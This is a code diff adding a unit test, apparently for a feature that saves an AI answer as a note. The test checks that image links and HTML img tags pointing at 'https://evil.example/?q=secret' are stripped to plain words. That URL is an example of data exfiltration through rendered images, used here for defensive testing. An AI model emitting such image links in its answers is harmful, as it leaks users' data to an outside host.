@@ -65,6 +65,18 @@ describe('an answer kept as a note', () => {
     );
   });
 
+  it('fetches nothing that the answer names: pictures and HTML are their words', () => {
+    const spy = 'https://evil.example/?q=secret';
+    const said = `好 [1]。![偷看](${spy}) ![再][p]\n\n<img src="${spy}">\n\n[p]: ${spy}`;
+    const { content, written } = answerNote('？', { content: said, citations: [cite(1)] });
+    const kinds = JSON.stringify(parseMarkdown(content));
+    for (const type of ['image', 'imageReference', 'definition', 'html']) {
+      expect(kinds).not.toContain(`"type":"${type}"`);
+    }
+    expect(content).toContain('好 [^1]。偷看 再');
+    expect(content).toContain(written);
+  });
+
   it('names a note that is gone without a link, and keeps an answer that cites nothing', () => {
     expect(note('甲 [1]', cite(1, { articleId: null }))).toContain('[^1]: 茶经 · ');
     expect(note('没有引用。')).toBe('没有引用。\n');
